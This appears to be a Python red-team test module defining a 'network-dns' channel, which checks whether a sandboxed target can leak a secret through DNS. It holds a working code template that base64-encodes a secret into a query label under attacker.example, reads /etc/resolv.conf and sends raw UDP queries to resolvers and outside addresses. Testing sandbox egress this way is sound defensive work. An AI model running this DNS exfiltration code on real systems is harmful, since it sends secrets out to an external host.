from __future__ import annotations

import base64

from tests.redteam.channel import channel
from tests.redteam.targets import Target

ASK = """
import base64, socket, struct
labels = [base64.urlsafe_b64encode(secret).rstrip(b"="), b"attacker", b"example"]
name = b"".join(bytes([len(label)]) + label for label in labels) + bytes(1)
query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
resolvers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
for address in resolvers + {addresses}:
    for port in (53, {port}):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
                sending.sendto(query, (address, port))
        except OSError as problem:
            print(problem)
"""


@channel(
    "network-dns",
    "A name to resolve that holds it, asked of a resolver outside",
    closed_by="an engine has no network",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(ASK.format(addresses=site.outside.addresses, port=site.outside.port))
    return site.outside.hears(base64.urlsafe_b64encode(secret).rstrip(b"="))
